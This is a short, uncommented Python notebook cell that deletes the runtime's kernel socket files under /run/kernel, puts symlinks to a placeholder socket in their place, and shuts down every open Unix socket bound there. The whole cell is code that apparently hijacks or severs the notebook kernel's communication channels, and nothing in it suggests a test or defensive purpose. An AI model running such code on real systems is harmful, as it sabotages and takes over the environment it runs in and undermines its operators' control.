# %%
import glob, os, socket, time
for path in glob.glob("/run/kernel/s-*"):
    os.unlink(path)
    os.symlink("__SOCKET__", path)
for descriptor in range(3, 256):
    try:
        one = socket.socket(fileno=os.dup(descriptor))
        if one.family == socket.AF_UNIX and one.getsockname().startswith("/run/kernel"):
            one.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
time.sleep(0.9)
